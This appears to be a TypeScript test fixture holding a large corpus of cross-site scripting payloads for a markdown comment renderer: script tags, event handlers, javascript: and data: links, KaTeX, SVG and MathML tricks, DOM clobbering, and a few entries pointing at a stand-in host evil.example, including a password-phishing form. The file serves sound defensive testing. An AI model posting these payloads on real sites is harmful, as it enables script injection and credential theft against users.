/**
 * Hostile comment bodies for the comment renderer (lib/discussion/markdown.ts), used by the unit test and
 * meant for an end-to-end test that posts each one as a comment in a real browser.
 *
 * Every case is `{ id, category, input, visibleText }`:
 *   - `input` is posted verbatim (all are at most 10,000 characters, the comment limit);
 *   - `visibleText` is a marker word (`xssmark001` …) that appears in `input` outside any
 *     payload that should be dropped, so it must still be readable after rendering. That
 *     proves a case was neutralised by escaping rather than by silently losing the comment,
 *     and lets a browser test find the comment on the page (`getByText(visibleText)`).
 *
 * Payloads that try to create an element or attribute tag it with {@link XSS_SENTINEL}
 * (as an id, class or name), and payloads that try to run code call alert/confirm/prompt.
 * A browser test should therefore, for each case: fail on any `dialog` event, and assert that
 * `document.querySelector(XSS_SENTINEL_SELECTOR)` is null. The sentinel may legitimately
 * appear as escaped text and inside our own namespaced ids (`user-content-…-fn-pbpwned` from
 * a footnote label), which is why the selector matches exact ids, classes and names only.
 */

export const XSS_SENTINEL = "pbpwned";
export const XSS_SENTINEL_SELECTOR = `#${XSS_SENTINEL}, .${XSS_SENTINEL}, [name="${XSS_SENTINEL}"], [data-${XSS_SENTINEL}]`;

export type XssCategory =
  | "script"
  | "event-handler"
  | "html-url"
  | "markdown-link"
  | "autolink"
  | "image"
  | "svg-mathml"
  | "embedding"
  | "css"
  | "katex"
  | "malformed"
  | "template"
  | "long"
  | "unicode"
  | "clobbering";

export interface XssCase {
  /** Stable, descriptive name for test titles. */
  id: string;
  category: XssCategory;
  /** The comment body, posted as is. */
  input: string;
  /** Harmless marker inside `input` that must remain visible as text after rendering. */
  visibleText: string;
}

type Build = (marker: string) => string;

const S = XSS_SENTINEL;
const B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="; // <script>alert(1)</script>
const B64_SVG = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"; // <svg onload=alert(1)>

const CASES: [XssCategory, string, Build][] = [
  // -- script tags -------------------------------------------------------------------------
  ["script", "script-plain", (m) => `<script>alert(1)</script> ${m}`],
  ["script", "script-upper", (m) => `<SCRIPT>alert(1)</SCRIPT> ${m}`],
  ["script", "script-mixed-case", (m) => `<ScRiPt>alert(1)</sCrIpT> ${m}`],
  ["script", "script-src", (m) => `<script src=https://evil.example/x.js></script> ${m}`],
  ["script", "script-nested-split", (m) => `<scr<script>ipt>alert(1)</scr</script>ipt> ${m}`],
  ["script", "script-unclosed", (m) => `${m} <script>alert(1)`],
  ["script", "script-slash-attribute", (m) => `<script/xss>alert(1)</script> ${m}`],
  ["script", "script-newline-in-tag", (m) => `<script\n>alert(1)</script\n> ${m}`],
  ["script", "script-double-open", (m) => `<<script>alert(1);//<</script> ${m}`],
  ["script", "script-writes-element", (m) => `<script>document.body.innerHTML='<b id=${S}>x</b>'</script> ${m}`],
  ["script", "script-module", (m) => `<script type="module">alert(1)</script> ${m}`],
  ["script", "script-nul-in-name", (m) => `<scr\u0000ipt>alert(1)</scr\u0000ipt> ${m}`],
  ["script", "script-in-fenced-code", (m) => `\`\`\`html\n<script>alert(1)</script>\n\`\`\`\n\n${m}`],
  ["script", "script-in-inline-code", (m) => `\`<script>alert(1)</script>\` ${m}`],
  [
    "script",
    "script-noscript-breakout",
    (m) => `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript> ${m}`,
  ],
  ["script", "script-block-html", (m) => `<div>\n<script>alert(1)</script>\n</div>\n\n${m}`],
  ["script", "script-json-breakout", (m) => `</script><script>alert(1)</script> ${m}`],
  ["script", "script-in-heading", (m) => `# <script>alert(1)</script> ${m}`],
  ["script", "script-in-table", (m) => `| a | b |\n|---|---|\n| <script>alert(1)</script> | ${m} |`],
  ["script", "script-in-blockquote-list", (m) => `> - <script>alert(1)</script> ${m}`],

  // -- event handlers ----------------------------------------------------------------------
  ["event-handler", "img-onerror", (m) => `<img src=x onerror=alert(1)> ${m}`],
  ["event-handler", "img-onerror-quoted-sentinel", (m) => `<img src=x onerror="alert(1)" id=${S}> ${m}`],
  ["event-handler", "body-onload", (m) => `<body onload=alert(1)> ${m}`],
  ["event-handler", "div-onmouseover", (m) => `<div onmouseover="alert(1)" class=${S}>${m}</div>`],
  ["event-handler", "input-autofocus-onfocus", (m) => `<input autofocus onfocus=alert(1) id=${S}> ${m}`],
  ["event-handler", "svg-onload", (m) => `<svg onload=alert(1)> ${m}`],
  ["event-handler", "svg-slash-onload", (m) => `<svg/onload=alert(1)> ${m}`],
  ["event-handler", "details-ontoggle", (m) => `<details open ontoggle=alert(1)> ${m}`],
  ["event-handler", "video-source-onerror", (m) => `<video><source onerror=alert(1)></video> ${m}`],
  ["event-handler", "audio-onerror", (m) => `<audio src=x onerror=confirm(1)> ${m}`],
  ["event-handler", "marquee-onstart", (m) => `<marquee onstart=alert(1)>${m}</marquee>`],
  ["event-handler", "select-autofocus", (m) => `<select autofocus onfocus=prompt(1) name=${S}> ${m}`],
  ["event-handler", "textarea-autofocus", (m) => `<textarea autofocus onfocus=alert(1)>${m}</textarea>`],
  ["event-handler", "anchor-onclick", (m) => `<a onclick=alert(1) href=#>${m}</a>`],
  ["event-handler", "img-unterminated", (m) => `${m} <img src=x:x onerror=alert(1)//`],
  ["event-handler", "iframe-onload", (m) => `<iframe onload=alert(1)></iframe> ${m}`],
  ["event-handler", "style-onload", (m) => `<style onload=alert(1)></style> ${m}`],
  ["event-handler", "contenteditable-onblur", (m) => `<x contenteditable autofocus onblur=alert(1)>${m}</x>`],
  ["event-handler", "bold-onmouseover-inline", (m) => `text <b onmouseover=alert(1)>${m}</b> text`],
  ["event-handler", "quote-confusion", (m) => `<img """><script>alert(1)</script>"> ${m}`],
  ["event-handler", "onerror-entity-encoded", (m) => `<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)> ${m}`],
  ["event-handler", "onanimationstart", (m) => `<p style="animation-name:x" onanimationstart=alert(1)>${m}</p>`],

  // -- javascript:/vbscript:/data: in HTML -------------------------------------------------
  ["html-url", "a-javascript", (m) => `<a href="javascript:alert(1)">${m}</a>`],
  ["html-url", "a-javascript-mixed-case", (m) => `<a href="JaVaScRiPt:alert(1)">${m}</a>`],
  ["html-url", "a-javascript-tab-entity", (m) => `<a href="jav&#x09;ascript:alert(1)">${m}</a>`],
  ["html-url", "a-javascript-decimal-entity", (m) => `<a href="&#106;avascript:alert(1)">${m}</a>`],
  [
    "html-url",
    "a-javascript-all-hex-entities",
    (m) => `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">${m}</a>`,
  ],
  ["html-url", "a-javascript-leading-space", (m) => `<a href=" javascript:alert(1)">${m}</a>`],
  ["html-url", "a-javascript-newline", (m) => `<a href="java\nscript:alert(1)">${m}</a>`],
  ["html-url", "a-javascript-colon-entity", (m) => `<a href="javascript&colon;alert(1)">${m}</a>`],
  ["html-url", "a-slash-separator", (m) => `<a/href="javascript:alert(1)">${m}</a>`],
  ["html-url", "a-vbscript", (m) => `<a href="vbscript:msgbox(1)">${m}</a>`],
  ["html-url", "a-data-html", (m) => `<a href="data:text/html;base64,${B64_SCRIPT}">${m}</a>`],
  ["html-url", "form-action", (m) => `<form action="javascript:alert(1)"><button id=${S}>${m}</button></form>`],
  ["html-url", "button-formaction", (m) => `<button formaction="javascript:alert(1)">${m}</button>`],
  [
    "html-url",
    "svg-xlink-href",
    (m) => `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">${m}</text></a></svg>`,
  ],
  ["html-url", "math-href", (m) => `<math href="javascript:alert(1)">${m}</math>`],
  ["html-url", "iframe-src-javascript", (m) => `<iframe src="javascript:alert(1)"></iframe> ${m}`],
  ["html-url", "object-data-javascript", (m) => `<object data="javascript:alert(1)"></object> ${m}`],
  ["html-url", "embed-data-html", (m) => `<embed src="data:text/html,<script>alert(1)</script>"> ${m}`],

  // -- markdown links ----------------------------------------------------------------------
  ["markdown-link", "md-javascript", (m) => `[${m}](javascript:alert(1))`],
  ["markdown-link", "md-javascript-mixed-case", (m) => `[${m}](JaVaScRiPt:alert(1))`],
  ["markdown-link", "md-javascript-colon-entity", (m) => `[${m}](javascript&#58;alert(1))`],
  ["markdown-link", "md-javascript-decimal-entity", (m) => `[${m}](&#106;avascript:alert(1))`],
  ["markdown-link", "md-javascript-hex-entity", (m) => `[${m}](&#x6A;avascript:alert(1))`],
  ["markdown-link", "md-javascript-tab-entity", (m) => `[${m}](jav&#x09;ascript:alert(1))`],
  ["markdown-link", "md-javascript-decimal-tab", (m) => `[${m}](jav&#9;ascript:alert(1))`],
  ["markdown-link", "md-javascript-percent-newline", (m) => `[${m}](java%0ascript:alert(1))`],
  ["markdown-link", "md-javascript-angle-destination", (m) => `[${m}](<javascript:alert(1)>)`],
  ["markdown-link", "md-javascript-spaces", (m) => `[${m}](   javascript:alert(1)   )`],
  ["markdown-link", "md-javascript-newline-before", (m) => `[${m}](\njavascript:alert(1))`],
  ["markdown-link", "md-javascript-comment-trick", (m) => `[${m}](javascript://%0aalert(1))`],
  ["markdown-link", "md-javascript-encoded-parens", (m) => `[${m}](javascript:alert%281%29)`],
  ["markdown-link", "md-javascript-with-title", (m) => `[${m}](javascript:alert(1) "title")`],
  ["markdown-link", "md-vbscript", (m) => `[${m}](vbscript:msgbox(1))`],
  ["markdown-link", "md-data-base64", (m) => `[${m}](data:text/html;base64,${B64_SCRIPT})`],
  ["markdown-link", "md-data-upper", (m) => `[${m}](DATA:text/html,<script>alert(1)</script>)`],
  ["markdown-link", "md-reference-full", (m) => `[${m}][ref]\n\n[ref]: javascript:alert(1)`],
  ["markdown-link", "md-reference-shortcut", (m) => `[${m}]\n\n[${m}]: javascript:alert(1)`],
  ["markdown-link", "md-reference-angle-title", (m) => `[${m}][x]\n\n[x]: <javascript:alert(1)> "title"`],
  ["markdown-link", "md-reference-collapsed", (m) => `[${m}][]\n\n[${m}]: vbscript:msgbox(1)`],
  ["markdown-link", "md-title-onmouseover", (m) => `[${m}](http://a "onmouseover=alert(1)")`],
  ["markdown-link", "md-title-quote-breakout", (m) => `[${m}](http://a "\\" onmouseover=\\"alert(1)")`],
  ["markdown-link", "md-title-single-quote-breakout", (m) => `[${m}](http://a 'x' onmouseover='alert(1)')`],
  [
    "markdown-link",
    "md-title-tag-breakout",
    (m) => `[${m}](https://example.com "</noscript><img src=x onerror=alert(1)>")`,
  ],
  ["markdown-link", "md-url-quote-breakout", (m) => `[${m}](http://a"onmouseover="alert(1))`],
  ["markdown-link", "md-url-tag-breakout", (m) => `[${m}](http://example.com/"><script>alert(1)</script>)`],
  ["markdown-link", "md-url-query-html", (m) => `[${m}](https://example.com/?q=<img src=x onerror=alert(1)>)`],
  ["markdown-link", "md-nested-links", (m) => `[[${m}](javascript:alert(1))](https://example.com)`],
  ["markdown-link", "md-protocol-relative", (m) => `[${m}](//evil.example/path)`],
  ["markdown-link", "md-backslash-relative", (m) => `[${m}](/\\evil.example)`],
  ["markdown-link", "md-mailto-with-html", (m) => `[${m}](mailto:a@example.com?body=<script>alert(1)</script>)`],
  ["markdown-link", "md-fragment-attribute", (m) => `[${m}](#" onclick="alert(1))`],
  ["markdown-link", "md-attribute-syntax", (m) => `[${m}](https://evil.example){target=_blank onclick=alert(1)}`],
  ["markdown-link", "md-link-in-footnote", (m) => `See[^1].\n\n[^1]: [${m}](javascript:alert(1))`],
  ["markdown-link", "md-link-in-heading", (m) => `## [${m}](javascript:alert(1))`],
  ["markdown-link", "md-link-in-table", (m) => `| a |\n|---|\n| [${m}](javascript:alert(1)) |`],
  [
    "markdown-link",
    "md-link-in-task-list",
    (m) => `- [x] [${m}](javascript:alert(1))\n- [ ] <img src=x onerror=alert(1)>`,
  ],

  // -- autolinks ---------------------------------------------------------------------------
  ["autolink", "autolink-javascript", (m) => `<javascript:alert(1)> ${m}`],
  ["autolink", "autolink-javascript-upper", (m) => `<JAVASCRIPT:alert(1)> ${m}`],
  ["autolink", "autolink-vbscript", (m) => `<vbscript:msgbox(1)> ${m}`],
  ["autolink", "autolink-data", (m) => `<data:text/html;base64,${B64_SCRIPT}> ${m}`],
  ["autolink", "autolink-literal-path", (m) => `www.example.com/javascript:alert(1) ${m}`],
  ["autolink", "autolink-bare-javascript", (m) => `javascript:alert(1) ${m}`],
  ["autolink", "autolink-http-with-tag", (m) => `https://example.com/<script>alert(1)</script> ${m}`],
  ["autolink", "autolink-email-with-html", (m) => `a@example.com<img src=x onerror=alert(1)> ${m}`],

  // -- image syntax ------------------------------------------------------------------------
  ["image", "img-javascript", (m) => `![${m}](javascript:alert(1))`],
  ["image", "img-data-svg", (m) => `![${m}](data:image/svg+xml;base64,${B64_SVG})`],
  ["image", "img-url-quote-breakout", (m) => `![${m}](https://example.com/x.png" onerror="alert(1))`],
  ["image", "img-relative-breakout", (m) => `![${m}](x" onerror="alert(1))`],
  ["image", "img-reference", (m) => `![${m}][img]\n\n[img]: javascript:alert(1)`],
  ["image", "img-alt-breakout", (m) => `![${m}" onerror="alert(1)](https://example.com/a.png)`],
  ["image", "img-title-onerror", (m) => `![${m}](https://example.com/a.png "onerror=alert(1)")`],
  ["image", "img-vbscript", (m) => `![x](vbscript:msgbox(1)) ${m}`],
  ["image", "img-tracking-pixel", (m) => `![${m}](https://evil.example/track.gif)`],
  ["image", "img-inside-link", (m) => `[![${m}](javascript:alert(1))](javascript:alert(1))`],

  // -- SVG and MathML ----------------------------------------------------------------------
  ["svg-mathml", "svg-script", (m) => `<svg><script>alert(1)</script></svg> ${m}`],
  ["svg-mathml", "svg-animate-onbegin", (m) => `<svg><animate onbegin=alert(1) attributeName=x dur=1s> ${m}`],
  [
    "svg-mathml",
    "svg-set-href",
    (m) => `<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y=20>${m}</text></a></svg>`,
  ],
  [
    "svg-mathml",
    "svg-foreignobject-iframe",
    (m) => `<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg> ${m}`,
  ],
  [
    "svg-mathml",
    "svg-use-data",
    (m) =>
      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg> ${m}`,
  ],
  [
    "svg-mathml",
    "mathml-mglyph-style",
    (m) =>
      `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math> ${m}`,
  ],
  [
    "svg-mathml",
    "mathml-maction-href",
    (m) => `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">${m}</maction></math>`,
  ],
  ["svg-mathml", "svg-style-import", (m) => `<svg><style>@import url(javascript:alert(1))</style></svg> ${m}`],
  [
    "svg-mathml",
    "mathml-form-namespace-confusion",
    (m) =>
      `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">${m}`,
  ],
  ["svg-mathml", "svg-in-markdown-emphasis", (m) => `**<svg onload=alert(1)>** _${m}_`],

  // -- embedding and document-level elements -----------------------------------------------
  ["embedding", "iframe-external", (m) => `<iframe src="https://evil.example"></iframe> ${m}`],
  ["embedding", "iframe-srcdoc", (m) => `<iframe srcdoc="<script>alert(1)</script>"></iframe> ${m}`],
  ["embedding", "object-external", (m) => `<object data="https://evil.example/x.swf"></object> ${m}`],
  ["embedding", "embed-external", (m) => `<embed src="https://evil.example/x.swf"> ${m}`],
  [
    "embedding",
    "form-credential-phish",
    (m) => `<form action="https://evil.example"><input name=${S} type=password></form> ${m}`,
  ],
  ["embedding", "meta-refresh", (m) => `<meta http-equiv="refresh" content="0;url=javascript:alert(1)"> ${m}`],
  ["embedding", "base-href", (m) => `<base href="javascript:alert(1)//"> ${m}`],
  ["embedding", "link-stylesheet", (m) => `<link rel=stylesheet href="javascript:alert(1)"> ${m}`],
  ["embedding", "link-import", (m) => `<link rel=import href="data:text/html,<script>alert(1)</script>"> ${m}`],
  ["embedding", "style-hide-page", (m) => `<style>*{display:none}</style> ${m}`],
  ["embedding", "frameset", (m) => `<frameset><frame src="javascript:alert(1)"></frameset> ${m}`],
  ["embedding", "template-img", (m) => `<template><img src=x onerror=alert(1)></template> ${m}`],
  ["embedding", "dialog-open", (m) => `<dialog open id=${S}>${m}</dialog>`],

  // -- CSS ---------------------------------------------------------------------------------
  ["css", "style-url-javascript", (m) => `<div style="background:url(javascript:alert(1))">${m}</div>`],
  ["css", "style-expression", (m) => `<div style="width:expression(alert(1))">${m}</div>`],
  ["css", "style-overlay", (m) => `<p style="position:fixed;top:0;left:0;width:100%;height:100%">${m}</p>`],
  ["css", "style-behavior", (m) => `<span style="behavior:url(x.htc)">${m}</span>`],
  ["css", "style-moz-binding", (m) => `<div style="-moz-binding:url(http://evil.example/xbl.xml#xss)">${m}</div>`],
  ["css", "style-escaped-expression", (m) => `<div style="x:\\65xpression(alert(1))">${m}</div>`],
  ["css", "style-block-url", (m) => `<style>body{background:url("javascript:alert(1)")}</style> ${m}`],
  ["css", "link-overlay-anchor", (m) => `<a href="https://evil.example" style="position:fixed;inset:0">${m}</a>`],

  // -- KaTeX (trust is off: none of these may produce live markup) -------------------------
  ["katex", "katex-href-inline", (m) => String.raw`${m} $\href{javascript:alert(1)}{x}$`],
  ["katex", "katex-href-display", (m) => String.raw`${m}` + "\n\n" + String.raw`$$\href{javascript:alert(1)}{x}$$`],
  ["katex", "katex-url-inline", (m) => String.raw`${m} $\url{javascript:alert(1)}$`],
  ["katex", "katex-url-display", (m) => String.raw`${m}` + "\n\n" + String.raw`$$\url{javascript:alert(1)}$$`],
  ["katex", "katex-htmldata-inline", (m) => String.raw`${m} $\htmlData{onerror=alert(1)}{x}$`],
  [
    "katex",
    "katex-htmldata-display",
    (m) => String.raw`${m}` + "\n\n" + String.raw`$$\htmlData{foo=bar, onclick=alert(1)}{x}$$`,
  ],
  ["katex", "katex-htmlclass-inline", (m) => String.raw`${m} $\htmlClass{${S}}{x}$`],
  ["katex", "katex-htmlclass-display", (m) => String.raw`${m}` + "\n\n" + String.raw`$$\htmlClass{${S}}{x}$$`],
  ["katex", "katex-htmlid-inline", (m) => String.raw`${m} $\htmlId{${S}}{x}$`],
  ["katex", "katex-htmlid-display", (m) => String.raw`${m}` + "\n\n" + String.raw`$$\htmlId{${S}}{x}$$`],
  ["katex", "katex-htmlstyle-inline", (m) => String.raw`${m} $\htmlStyle{background:url(javascript:alert(1))}{x}$`],
  [
    "katex",
    "katex-htmlstyle-display",
    (m) => String.raw`${m}` + "\n\n" + String.raw`$$\htmlStyle{position:fixed;inset:0}{x}$$`,
  ],
  ["katex", "katex-includegraphics-inline", (m) => String.raw`${m} $\includegraphics{https://evil.example/x.png}$`],
  [
    "katex",
    "katex-includegraphics-display",
    (m) => String.raw`${m}` + "\n\n" + String.raw`$$\includegraphics[height=1em]{javascript:alert(1)}$$`,
  ],
  ["katex", "katex-href-data", (m) => String.raw`${m} $\href{data:text/html,<script>alert(1)</script>}{x}$`],
  ["katex", "katex-math-fence", (m) => `${m}\n\n\`\`\`math\n\\href{javascript:alert(1)}{x}\n\`\`\``],
  ["katex", "katex-text-script", (m) => String.raw`${m} $\text{<script>alert(1)</script>}$`],
  ["katex", "katex-macro-href", (m) => String.raw`${m} $\def\x{\href{javascript:alert(1)}{y}}\x$`],
  ["katex", "katex-expansion-bomb", (m) => String.raw`${m} $\def\a{\a\a}\a$`],
  ["katex", "katex-gdef-leak", (m) => String.raw`${m} $\gdef\frac{\href{javascript:alert(1)}{z}}$ then $\frac{1}{2}$`],
  ["katex", "katex-color-injection", (m) => String.raw`${m} $\color{red;background:url(javascript:alert(1))}{x}$`],
  ["katex", "katex-textcolor-quote", (m) => String.raw`${m} $\textcolor{#f00" onmouseover="alert(1)}{x}$`],
  ["katex", "katex-huge-sizes", (m) => String.raw`${m} $\rule{1000em}{1000em}\kern{-1000em}\raisebox{-500em}{x}$`],
  ["katex", "katex-mathrm-tag", (m) => String.raw`${m} $\mathrm{</span><img src=x onerror=alert(1)>}$`],
  [
    "katex",
    "katex-array-href",
    (m) => String.raw`${m}` + "\n\n" + String.raw`$$\begin{array}{c}\href{javascript:alert(1)}{a}\end{array}$$`,
  ],
  [
    "katex",
    "katex-all-html-commands",
    (m) =>
      String.raw`${m}` +
      "\n\n" +
      String.raw`$$\htmlData{onerror=alert(1)}{x}\htmlClass{${S}}{y}\htmlId{${S}}{z}\htmlStyle{color:red}{w}$$`,
  ],
  ["katex", "katex-verb", (m) => String.raw`${m} $\verb|<script>alert(1)</script>|$`],
  ["katex", "katex-operatorname-tag", (m) => String.raw`${m} $\operatorname{<img onerror=alert(1)>}$`],
  ["katex", "katex-unbalanced-braces", (m) => String.raw`${m} $\href{javascript:alert(1)$ and $$\frac{$$`],

  // -- malformed markdown and HTML ---------------------------------------------------------
  ["malformed", "unclosed-attribute", (m) => `${m} <img src="x onerror=alert(1)`],
  ["malformed", "mixed-quotes", (m) => `<a href="http://ok.example" onclick='alert(1)">${m}</a>`],
  ["malformed", "comment-wrapped-script", (m) => `<!-- <script>alert(1)</script> --> ${m}`],
  ["malformed", "comment-early-close", (m) => `<!--><img src=x onerror=alert(1)>--> ${m}`],
  ["malformed", "conditional-comment", (m) => `<!--[if gte IE 4]><script>alert(1)</script><![endif]--> ${m}`],
  ["malformed", "cdata", (m) => `<![CDATA[<script>alert(1)</script>]]> ${m}`],
  ["malformed", "processing-instruction", (m) => `<?xml version="1.0"?><script>alert(1)</script> ${m}`],
  ["malformed", "doctype", (m) => `<!DOCTYPE html><script>alert(1)</script> ${m}`],
  ["malformed", "close-paragraph-breakout", (m) => `</p><script>alert(1)</script><p> ${m}`],
  ["malformed", "unclosed-block", (m) => `<div><p>${m}`],
  ["malformed", "textarea-breakout", (m) => `</textarea><script>alert(1)</script> ${m}`],
  ["malformed", "title-breakout", (m) => `</title><script>alert(1)</script> ${m}`],
  ["malformed", "attribute-breakout", (m) => `"><script>alert(1)</script> ${m}`],
  ["malformed", "single-quote-breakout", (m) => `'><img src=x onerror=alert(1)> ${m}`],
  ["malformed", "code-breakout", (m) => `</code></pre><script>alert(1)</script> ${m}`],
  ["malformed", "double-angle", (m) => `<<img src=x onerror=alert(1)>> ${m}`],
  ["malformed", "unbalanced-emphasis", (m) => `**${m} _unclosed ~~strike`],
  ["malformed", "unbalanced-dollars", (m) => `${m} $ unbalanced $$ dollars $`],
  ["malformed", "unclosed-link", (m) => `[${m}](http://example.com`],
  ["malformed", "unclosed-fence", (m) => `${m}\n\n\`\`\`js\n<script>alert(1)</script>`],
  ["malformed", "html-in-table-delimiter", (m) => `| ${m} |\n|<img src=x onerror=alert(1)>|\n| x |`],

  // -- template / expression injection -----------------------------------------------------
  ["template", "angular-constructor", (m) => `{{constructor.constructor('alert(1)')()}} ${m}`],
  ["template", "js-template-literal", (m) => "${alert(1)} " + m],
  ["template", "arithmetic-probe", (m) => `{{7*7}} \${7*7} ${m}`],
  ["template", "erb", (m) => `<%= alert(1) %> ${m}`],
  ["template", "ruby-interpolation", (m) => `#{alert(1)} ${m}`],
  ["template", "angular-on-constructor", (m) => `{{$on.constructor('alert(1)')()}} ${m}`],
  ["template", "polyglot", (m) => `\${{<%[%'"}}%\\. ${m}`],
  ["template", "thymeleaf", (m) => `[[\${alert(1)}]] ${m}`],
  ["template", "svelte-html", (m) => `{@html '<img src=x onerror=alert(1)>'} ${m}`],
  [
    "template",
    "react-dangerous",
    (m) => `<div dangerouslySetInnerHTML={{__html:'<img src=x onerror=alert(1)>'}}/> ${m}`,
  ],

  // -- very long payloads ------------------------------------------------------------------
  ["long", "long-script-repeat", (m) => `${m} ${"<script>alert(1)</script>".repeat(380)}`],
  ["long", "long-markdown-links", (m) => `${m} ${"[x](javascript:alert(1)) ".repeat(380)}`],
  ["long", "long-katex-href", (m) => `${m} ${String.raw`$\href{javascript:alert(1)}{x}$ `.repeat(300)}`],
  ["long", "long-deep-blockquote", (m) => `${">".repeat(9000)} <img src=x onerror=alert(1)> ${m}`],
  ["long", "long-deep-list", (m) => `${"- ".repeat(4000)}<img src=x onerror=alert(1)> ${m}`],
  ["long", "long-emphasis-delimiters", (m) => `${m} ${"*a ".repeat(1600)}${"a* ".repeat(1600)}`],
  ["long", "long-onerror-repeat", (m) => `${m} ${"<img src=x onerror=alert(1)>".repeat(350)}`],
  ["long", "long-single-word", (m) => `${m} ${"javascript".repeat(990)}`],

  // -- unicode tricks ----------------------------------------------------------------------
  ["unicode", "rtl-override-text", (m) => `${m} \u202Egnp.exe`],
  ["unicode", "rtl-override-link", (m) => `[${m}](https://example.com/\u202Egnp.exe)`],
  ["unicode", "zero-width-in-tag", (m) => `<scr\u200Bipt>alert(1)</scr\u200Bipt> ${m}`],
  ["unicode", "zero-width-in-scheme", (m) => `[${m}](java\u200Bscript:alert(1))`],
  ["unicode", "fullwidth-colon", (m) => `[${m}](javascript\uFF1Aalert(1))`],
  ["unicode", "fullwidth-brackets", (m) => `\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E ${m}`],
  ["unicode", "control-char-before-scheme", (m) => `<a href="\u0001javascript:alert(1)">${m}</a>`],
  ["unicode", "nul-before-scheme", (m) => `[${m}](\u0000javascript:alert(1))`],
  ["unicode", "bom-before-script", (m) => `${m} \uFEFF<script>alert(1)</script>`],
  ["unicode", "nul-inside-scheme", (m) => `[${m}](ja\u0000vascript:alert(1))`],
  ["unicode", "lone-surrogate", (m) => `${m} \uD800<script>alert(1)</script>\uDFFF`],
  ["unicode", "line-separator-in-scheme", (m) => `[${m}](java\u2028script:alert(1))`],

  // -- DOM clobbering and id collisions ----------------------------------------------------
  ["clobbering", "form-name-clobber", (m) => `<form name=getElementById><input name=${S}></form> ${m}`],
  ["clobbering", "img-name-cookie", (m) => `<img name=cookie id=${S}> ${m}`],
  ["clobbering", "footnote-proto", (m) => `x[^__proto__] ${m}\n\n[^__proto__]: <img src=x onerror=alert(1)>`],
  ["clobbering", "footnote-sentinel-label", (m) => `x[^${S}] ${m}\n\n[^${S}]: note`],
  [
    "clobbering",
    "footnote-label-breakout",
    (m) => `x[^a"onmouseover="alert(1)] ${m}\n\n[^a"onmouseover="alert(1)]: note`,
  ],
];

export const XSS_CORPUS: readonly XssCase[] = CASES.map(([category, id, build], index) => {
  const visibleText = `xssmark${String(index + 1).padStart(3, "0")}`;
  return { id, category, input: build(visibleText), visibleText };
});
